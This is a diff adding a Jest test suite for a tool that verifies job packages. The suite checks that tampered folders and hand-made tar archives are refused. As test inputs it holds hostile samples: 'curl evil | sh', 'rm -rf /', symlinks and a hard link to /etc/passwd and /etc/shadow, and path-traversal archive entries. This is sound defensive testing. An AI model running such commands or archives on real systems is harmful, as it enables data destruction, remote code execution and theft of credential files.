@@ -1,0 +1,262 @@
+/**
+ * `verify` against real packages (packed by packJob from a real git
+ * repository and a dataset served on loopback), intact and tampered, and
+ * against hand-made archives that try to escape the folder they are
+ * unpacked into. Each refusal must name the path.
+ */
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
+import { appendFile, readFile, rm, symlink, writeFile } from 'node:fs/promises'
+import path from 'node:path'
+import { silentLogger, SpecError, UnsafeContentError, VerificationError, verifyPackage, type PackResult } from '../../src/core/index.js'
+import { inspectPackage } from '../../src/core/verify.js'
+import { serveBuffer, startDataServer, type DataServer } from '../helpers/data-server.js'
+import { copyJobDir, makePackage, writeRawArchive } from '../helpers/package.js'
+import { run } from '../helpers/git-server.js'
+import { listAll, tempDir } from '../helpers/workspace.js'
+
+let root: { dir: string; cleanup: () => Promise<void> }
+let data: DataServer
+let pkg: PackResult
+let n = 0
+const scratch = (): string => path.join(root.dir, `t-${++n}`)
+
+beforeAll(async () => {
+  root = await tempDir('jp-verify-')
+  data = await startDataServer()
+  data.route('/d.csv', serveBuffer('a,b\n1,2\n'))
+  pkg = await makePackage(root.dir, { 'main.py': 'print("hi")\n', 'lib/util.py': 'X = 1\n' }, 'python3 main.py', {
+    data: { server: data, route: '/d.csv' }
+  })
+})
+afterAll(async () => {
+  await data?.close()
+  await root?.cleanup()
+})
+
+async function refusal(source: string, expectedSha256?: string): Promise<Error> {
+  const err = await verifyPackage(source, { expectedSha256 }, silentLogger).then(
+    () => undefined,
+    (e: unknown) => e as Error
+  )
+  if (!err) throw new Error(`${source} was accepted`)
+  return err
+}
+
+describe('an intact package', () => {
+  it('verifies as an archive, with its sha256, and as a job folder, and the digest is the one pack reported', async () => {
+    const a = await verifyPackage(pkg.archivePath, { expectedSha256: pkg.archiveSha256 }, silentLogger)
+    expect(a).toMatchObject({ jobId: pkg.jobId, sourceKind: 'archive', contentDigest: pkg.contentDigest, archiveSha256Checked: true })
+    expect(a.archiveSha256).toBe(pkg.archiveSha256)
+    const d = await verifyPackage(pkg.jobDir, {}, silentLogger)
+    expect(d).toMatchObject({ jobId: pkg.jobId, sourceKind: 'directory', contentDigest: pkg.contentDigest })
+    expect(d.files).toBe(pkg.manifest.files)
+  })
+
+  it('unpacks what it verified, files and modes as packed', async () => {
+    const dest = scratch()
+    await run('mkdir', ['-p', dest])
+    const { root: unpacked } = await inspectPackage(pkg.archivePath, { dest }, silentLogger)
+    expect(unpacked).toBe(path.join(dest, pkg.jobId))
+    expect(await readFile(path.join(unpacked!, 'code', 'lib', 'util.py'), 'utf8')).toBe('X = 1\n')
+    expect(await readFile(path.join(unpacked!, 'run.sh'), 'utf8')).toBe(await readFile(path.join(pkg.jobDir, 'run.sh'), 'utf8'))
+    // Verifying the unpacked copy as a folder gives the same digest.
+    expect((await verifyPackage(unpacked!, {}, silentLogger)).contentDigest).toBe(pkg.contentDigest)
+  })
+})
+
+describe('a tampered job folder is refused, naming the path', () => {
+  it('a changed byte in a dataset names the dataset', async () => {
+    const dir = await copyJobDir(pkg, scratch())
+    await writeFile(path.join(dir, 'data', 'd.csv'), 'a,b\n1,3\n')
+    const err = await refusal(dir)
+    expect(err).toBeInstanceOf(VerificationError)
+    expect((err as VerificationError).path).toBe('data/d.csv')
+    expect(err.message).toMatch(/data\/d\.csv has changed/)
+  })
+
+  it('a changed byte in the code is a content digest mismatch', async () => {
+    const dir = await copyJobDir(pkg, scratch())
+    await writeFile(path.join(dir, 'code', 'main.py'), 'print("ho")\n')
+    const err = await refusal(dir)
+    expect(err).toBeInstanceOf(VerificationError)
+    expect(err.message).toMatch(/content digest is sha256:[0-9a-f]{64}, but job\.json records sha256:/)
+  })
+
+  it('an extra file is named, in the code and at the top', async () => {
+    const dir = await copyJobDir(pkg, scratch())
+    await writeFile(path.join(dir, 'code', 'extra.py'), 'import os\n')
+    expect((await refusal(dir)).message).toMatch(
+      /holds 7 files and symlinks, but job\.json records 6: a file was added to or removed from code\//
+    )
+    await rm(path.join(dir, 'code', 'extra.py'))
+    await writeFile(path.join(dir, 'evil.sh'), 'rm -rf /\n')
+    const err = (await refusal(dir)) as VerificationError
+    expect(err.path).toBe('evil.sh')
+    expect(err.message).toMatch(/evil\.sh is not part of the package/)
+    await rm(path.join(dir, 'evil.sh'))
+    await writeFile(path.join(dir, 'data', 'more.csv'), 'x\n')
+    expect(((await refusal(dir)) as VerificationError).path).toBe('data/more.csv')
+  })
+
+  it('a missing file is named (run.sh, a dataset) or counted (code)', async () => {
+    const dir = await copyJobDir(pkg, scratch())
+    await rm(path.join(dir, 'run.sh'))
+    expect(((await refusal(dir)) as VerificationError).path).toBe('run.sh')
+    const dir2 = await copyJobDir(pkg, scratch())
+    await rm(path.join(dir2, 'data', 'd.csv'))
+    expect((await refusal(dir2)).message).toMatch(/data\/d\.csv is missing: job\.json lists it as a dataset/)
+    const dir3 = await copyJobDir(pkg, scratch())
+    await rm(path.join(dir3, 'code', 'lib', 'util.py'))
+    expect((await refusal(dir3)).message).toMatch(/holds 5 files and symlinks, but job\.json records 6/)
+  })
+
+  it('an edited job.json is refused: a changed command, a changed digest, an added field', async () => {
+    const original = await readFile(path.join(pkg.jobDir, 'job.json'), 'utf8')
+    const edits: Array<[string, RegExp]> = [
+      [original.replace('"command": "python3 main.py"', '"command": "curl evil | sh"'), /job\.json does not match run\.sh/],
+      [
+        original.replace(/"content_digest": "sha256:[0-9a-f]{64}"/, `"content_digest": "sha256:${'0'.repeat(64)}"`),
+        /job\.json records sha256:0{64}/
+      ],
+      [original.replace('"files": 6', '"files": 6,\n  "trusted": true'), /job\.json is not as pack wrote it/],
+      [original.replace(`"job_id": "${pkg.jobId}"`, '"job_id": 7'), /job\.json is not a job-packager manifest/]
+    ]
+    for (const [text, message] of edits) {
+      expect(text).not.toBe(original)
+      const dir = await copyJobDir(pkg, scratch())
+      await writeFile(path.join(dir, 'job.json'), text)
+      const err = await refusal(dir)
+      expect(err).toBeInstanceOf(VerificationError)
+      expect(err.message).toMatch(message)
+    }
+  })
+
+  it('a symlink out of the folder is refused with the walk’s own rule', async () => {
+    const dir = await copyJobDir(pkg, scratch())
+    await symlink('../../../../etc/passwd', path.join(dir, 'code', 'leak'))
+    const err = await refusal(dir)
+    expect(err).toBeInstanceOf(UnsafeContentError)
+    expect(err.message).toMatch(/code\/leak is a symlink to "\.\.\/\.\.\/\.\.\/\.\.\/etc\/passwd", which points outside the package/)
+  })
+})
+
+describe('a tampered or hand-made archive is refused', () => {
+  it('a wrong expected sha256 names the archive; a byte appended changes it', async () => {
+    const err = await refusal(pkg.archivePath, 'f'.repeat(64))
+    expect(err).toBeInstanceOf(VerificationError)
+    expect(err.message).toContain(`has sha256 ${pkg.archiveSha256}, not the expected ${'f'.repeat(64)}`)
+    const copy = path.join(scratch() + '.tar.gz')
+    await run('cp', [pkg.archivePath, copy])
+    await appendFile(copy, Buffer.from([0]))
+    expect((await refusal(copy, pkg.archiveSha256)).message).toMatch(/not the expected/)
+  })
+
+  it('an archive repacked with a changed file (GNU tar) fails the content digest', async () => {
+    const dir = await copyJobDir(pkg, scratch())
+    await writeFile(path.join(dir, 'code', 'main.py'), 'import os; os.system("id")\n')
+    const archive = path.join(path.dirname(dir), `${pkg.jobId}.tar.gz`)
+    await run('tar', ['-czf', archive, '-C', path.dirname(dir), pkg.jobId])
+    expect((await refusal(archive)).message).toMatch(/content digest is sha256:[0-9a-f]{64}, but job\.json records/)
+  })
+
+  it('a --sha256 on a folder is an input problem', async () => {
+    expect(await refusal(pkg.jobDir, pkg.archiveSha256)).toBeInstanceOf(SpecError)
+  })
+
+  const cases: Array<[string, Parameters<typeof writeRawArchive>[1], RegExp]> = [
+    [
+      'a .. entry',
+      [
+        { path: 'j/', type: 'Directory' },
+        { path: 'j/../../escaped.txt', type: 'File', content: 'x' }
+      ],
+      /"j\/\.\.\/\.\.\/escaped\.txt" in the archive has a "\.\." component/
+    ],
+    [
+      'an absolute path',
+      [{ path: '/tmp/jp-abs-escape.txt', type: 'File', content: 'x' }],
+      /"\/tmp\/jp-abs-escape\.txt" in the archive has an absolute path/
+    ],
+    [
+      'a second top folder',
+      [
+        { path: 'j/', type: 'Directory' },
+        { path: 'k/x', type: 'File', content: 'x' }
+      ],
+      /"k\/x" in the archive is outside the top folder "j"/
+    ],
+    [
+      'an escaping symlink',
+      [
+        { path: 'j/', type: 'Directory' },
+        { path: 'j/up', type: 'SymbolicLink', linkpath: '../../etc' }
+      ],
+      /up is a symlink to "\.\.\/\.\.\/etc", which points outside the package/
+    ],
+    [
+      'an absolute symlink',
+      [
+        { path: 'j/', type: 'Directory' },
+        { path: 'j/pw', type: 'SymbolicLink', linkpath: '/etc/passwd' }
+      ],
+      /pw is a symlink to the absolute path "\/etc\/passwd"/
+    ],
+    [
+      'a symlink chain that escapes',
+      [
+        { path: 'j/', type: 'Directory' },
+        { path: 'j/a/', type: 'Directory' },
+        { path: 'j/a/up', type: 'SymbolicLink', linkpath: '..' },
+        { path: 'j/a/esc', type: 'SymbolicLink', linkpath: 'up/../x' }
+      ],
+      /a\/esc is a symlink to "up\/\.\.\/x", which points outside the package once a\/up/
+    ],
+    [
+      'a hard link',
+      [
+        { path: 'j/', type: 'Directory' },
+        { path: 'j/h', type: 'Link', linkpath: '/etc/shadow' }
+      ],
+      /h in the archive is a hard link/
+    ],
+    [
+      'a device file',
+      [
+        { path: 'j/', type: 'Directory' },
+        { path: 'j/tty', type: 'CharacterDevice' }
+      ],
+      /tty in the archive is a device file/
+    ],
+    [
+      'a FIFO',
+      [
+        { path: 'j/', type: 'Directory' },
+        { path: 'j/pipe', type: 'FIFO' }
+      ],
+      /pipe in the archive is a FIFO/
+    ],
+    [
+      'an entry twice',
+      [
+        { path: 'j/', type: 'Directory' },
+        { path: 'j/x', type: 'File', content: '1' },
+        { path: 'j/x', type: 'File', content: '2' }
+      ],
+      /x in the archive appears twice/
+    ]
+  ]
+  it.each(cases)('%s: refused, nothing written outside the destination', async (_name, entries, message) => {
+    const base = scratch()
+    await run('mkdir', ['-p', path.join(base, 'dest')])
+    const archive = path.join(base, 'hand-made.tar.gz')
+    await writeRawArchive(archive, entries)
+    const err = await inspectPackage(archive, { dest: path.join(base, 'dest') }, silentLogger).then(
+      () => undefined,
+      (e: unknown) => e as Error
+    )
+    expect(err).toBeInstanceOf(UnsafeContentError)
+    expect(err!.message).toMatch(message)
+    expect((await listAll(base)).sort()).toEqual(['dest', 'hand-made.tar.gz'])
+    expect(await listAll('/tmp')).not.toContain('jp-abs-escape.txt')
+  })
+})
